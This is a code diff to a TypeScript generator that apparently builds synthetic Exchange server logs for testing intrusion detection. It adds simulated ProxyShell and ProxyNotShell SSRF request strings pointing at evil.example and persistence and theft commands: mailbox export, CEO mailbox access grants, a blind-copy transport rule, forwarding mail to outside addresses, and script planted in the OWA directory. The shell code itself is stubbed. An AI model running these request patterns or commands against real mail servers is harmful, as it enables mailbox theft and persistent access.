@@ -1,7 +1,7 @@
 // The intrusion written into the example: ProxyLogon SSRF -> web shell write -> shell use -> LSASS
 // dump -> archive -> mailbox export (March 2021), then ProxyShell, ProxyToken, CVE-2021-42321,
 // ProxyNotShell and OWASSRF later on the same never-patched server. Addresses are documentation ranges.
-import { ecpServer, mgmt, oabRow, type User } from './benign.js';
+import { ADMIN, ecpServer, mgmt, mgmtEvent, oabRow, rpsCmdletRow, type User } from './benign.js';
 import { Collection, SERVER } from './model.js';
 
 export const T = (s: string): number => Date.parse(s);
@@ -113,7 +113,9 @@ export function proxyShell(c: Collection, users: User[]): void {
     ['POST', `/powershell/?${cat}&`, 200], ['POST', `/powershell/?${cat}&`, 200], ['POST', `/powershell/?${cat}&`, 200],
   ];
   for (const [method, path, status] of steps) {
-    c.web({ time: t, method, stem: '/autodiscover/autodiscover.json', query: `@evil.example${path}${email}`, ip: PROXYSHELL_IP, ua, status, protocol: 'Autodiscover', backend: true, backendUser: `${SERVER.netbios}\\administrator`, backendStem: path.slice(0, path.indexOf('?')) });
+    // Through EWS the session plants its payload as a draft, acting as the mailbox (SerializedSecurityContext).
+    const ews = path.startsWith('/EWS/') ? { soapAction: 'CreateItem', actAs: `${ADMIN}@${SERVER.domain}` } : {};
+    c.web({ time: t, method, stem: '/autodiscover/autodiscover.json', query: `@evil.example${path}${email}`, ip: PROXYSHELL_IP, ua, status, protocol: 'Autodiscover', backend: true, backendUser: `${SERVER.netbios}\\administrator`, backendStem: path.slice(0, path.indexOf('?')), ...ews });
     t += rng.int(3000, 20_000);
   }
   const admin = `administrator@${SERVER.domain}`;
@@ -123,6 +125,28 @@ export function proxyShell(c: Collection, users: User[]): void {
   mgmt(c, t + 40_000, 'New-MailboxExportRequest', `-Mailbox '${admin}' -IncludeFolders ('#Drafts#') -ContentFilter 'Subject -eq ''${rng.alnum(8)}''' -ExcludeDumpster -FilePath '${pstPath}'`, 'Remote-PowerShell-Unknown', `${SERVER.domain}/Users/Administrator`);
   mgmt(c, t + 95_000, 'Remove-MailboxExportRequest', `-Identity '${admin}\\MailboxExport' -Confirm 'False'`, 'Remote-PowerShell-Unknown', `${SERVER.domain}/Users/Administrator`);
   mgmt(c, t + 130_000, 'New-ExchangeCertificate', `-GenerateRequest -BinaryEncoded -RequestFile '\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\${SHELL_CSR}' -SubjectName 'CN=exhunt imitation of a script subject'`, 'Remote-PowerShell-Unknown', `${SERVER.domain}/Users/Administrator`);
+  // Persistence with the forged administrator session: a role group, full access to the CEO's mailbox, a transport
+  // rule copying the finance team's mail, a search copying a mailbox, the CEO's mail forwarded, script in the OWA
+  // virtual directory. Only the cmdlet log's rules see most of these; the event log has them too, unflagged.
+  const boss = `ceo@${SERVER.domain}`;
+  const persistence: [string, string, boolean][] = [
+    ['Add-RoleGroupMember', `-Identity 'Organization Management' -Member 'svc-exh-mon'`, false],
+    ['Add-MailboxPermission', `-Identity '${boss}' -User 'svc-exh-mon' -AccessRights 'FullAccess' -InheritanceType 'All'`, false],
+    ['New-TransportRule', `-Name 'Journal Finance' -SentToMemberOf 'finance@${SERVER.domain}' -BlindCopyTo 'svc-exh-mon@${SERVER.domain}'`, false],
+    ['New-MailboxSearch', `-Name 'q3' -SourceMailboxes '${boss}' -TargetMailbox 'svc-exh-mon@${SERVER.domain}' -SearchQuery 'invoice OR contract'`, false],
+    ['Set-Mailbox', `-Identity '${boss}' -ForwardingSmtpAddress 'smtp:ceo.archive@mailbox.example.net' -DeliverToMailboxAndForward $true`, false],
+    ['Set-OwaVirtualDirectory', `-Identity '${SERVER.name}\\owa (Default Web Site)' -ExternalUrl 'http://x/<script language="JScript" runat="server">function Page_Load(){/*exhunt imitation*/}</script>'`, true],
+  ];
+  let pt = T('2021-08-13T21:46:02Z');
+  for (const [cmdlet, params, eventFlagged] of persistence) {
+    const caller = `${SERVER.domain}/Users/Administrator`;
+    if (eventFlagged) mgmtEvent(c, pt, cmdlet, params, 'Remote-PowerShell-Unknown', caller);
+    else c.quiet(() => mgmtEvent(c, pt, cmdlet, params, 'Remote-PowerShell-Unknown', caller));
+    rpsCmdletRow(c, pt, cmdlet, params, caller);
+    pt += rng.int(8000, 30_000);
+  }
+  // A message dropped into the transport Pickup folder through the web shell: sent with no client at all.
+  c.messageTracking(T('2021-08-13T21:58:40Z'), { source: 'PICKUP', 'event-id': 'RECEIVE', 'message-id': `<${rng.hex(16)}@${SERVER.fqdn}>`, 'recipient-address': `all-staff@${SERVER.domain}`, 'recipient-count': '1', 'total-bytes': '23871', 'message-subject': 'Password expiry notice', 'sender-address': `it-support@${SERVER.domain}`, directionality: 'Originating' });
   t = T('2021-08-13T21:49:30Z');
   for (let i = 0; i < 4; i++) {
     c.web({ time: t, method: 'POST', stem: `/owa/auth/${SHELL_PST}`, query: 'exec_code=imitation', ip: PROXYSHELL_IP, ua, status: 200, protocol: null });
@@ -144,15 +168,18 @@ export function laterCves(c: Collection, users: User[]): void {
   const u = users[2]!;
   const ua = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/106.0.0.0 Safari/537.36';
   let t = T('2022-10-04T13:26:51Z');
+  // The first try is refused by the PowerShell back end (wrong Protocol parameter).
+  c.web({ time: t - 40_000, method: 'POST', stem: '/autodiscover/autodiscover.json', query: `@evil.example/owa/&Email=autodiscover/autodiscover.json%3F@evil.example&Protocol=Powershell`, user: u.upn, ip: NOTSHELL_IP, ua, status: 500, protocol: 'Autodiscover', backend: true, backendStem: '/powershell' });
   for (let i = 0; i < 3; i++) {
     c.web({ time: t, method: i === 0 ? 'GET' : 'POST', stem: '/autodiscover/autodiscover.json', query: `@evil.example/owa/&Email=autodiscover/autodiscover.json%3F@evil.example&Protocol=XYZ&FooProtocol=Powershell`, user: u.upn, ip: NOTSHELL_IP, ua, status: 200, protocol: 'Autodiscover', backend: true, backendStem: '/powershell' });
     t += rng.int(5000, 30_000);
   }
-  // With the phished password the same address then reads mail over EWS and downloads the address book:
-  // ordinary-looking requests no rule flags, which the report's "what was taken" section lists by address.
+  // With the phished password the same address then reads mail over EWS and downloads the address book: ordinary-looking
+  // web requests, listed by address in "what was taken"; only the EWS log names the operations a scripting client ran.
   c.quiet(() => {
-    const ops = ['FindFolder', 'FindItem', 'GetItem', 'GetItem', 'GetAttachment', 'CreateItem'];
-    ops.forEach((soapAction, i) => c.web({ time: t + 60_000 + i * 7000, method: 'POST', stem: '/EWS/Exchange.asmx', user: u.upn, ip: NOTSHELL_IP, ua: 'python-requests/2.28.1', status: 200, protocol: 'Ews', soapAction, responseSize: soapAction === 'GetAttachment' ? 4_200_000 : undefined }));
+    const ops = ['FindFolder', 'FindItem', 'GetItem', 'GetItem', 'GetAttachment', 'CreateItem', 'UpdateInboxRules'];
+    ops.forEach((soapAction, i) => c.web({ time: t + 60_000 + i * 7000, method: 'POST', stem: '/EWS/Exchange.asmx', user: u.upn, ip: NOTSHELL_IP, ua: 'python-requests/2.28.1', status: 200, protocol: 'Ews', soapAction,
+      responseSize: soapAction === 'GetAttachment' ? 4_200_000 : undefined, detect: { ews: soapAction !== 'CreateItem' } }));
     // The stolen mailbox then sends through EWS and forwards new mail outside with an inbox rule (MessageTracking).
     const out = 'drop@mailbox.example.net';
     const id = `<${c.rng.hex(16)}@${SERVER.fqdn}>`;
@@ -173,5 +200,8 @@ export function laterCves(c: Collection, users: User[]): void {
     t += rng.int(4000, 15_000);
   }
   mgmt(c, t + 3000, 'New-ManagementRoleAssignment', `-Role "Mailbox Import Export" -User "${v.upn}"`, 'Remote-PowerShell-Unknown', `${SERVER.domain}/Users/${v.sam}`);
+  // The user's own mailbox forwards its new mail outside (a user may set inbox rules on their own mailbox).
+  c.quiet(() => mgmtEvent(c, t + 9000, 'New-InboxRule', `-Name 'sync' -Mailbox '${v.upn}' -ForwardTo 'sync.${v.sam}@mailbox.example.net' -StopProcessingRules $true`, 'Remote-PowerShell-Unknown', `${SERVER.domain}/Users/${v.sam}`));
+  rpsCmdletRow(c, t + 9000, 'New-InboxRule', `-Name 'sync' -Mailbox '${v.upn}' -ForwardTo 'sync.${v.sam}@mailbox.example.net' -StopProcessingRules $true`, `${SERVER.domain}/Users/${v.sam}`);
   c.attackMode = false;
 }
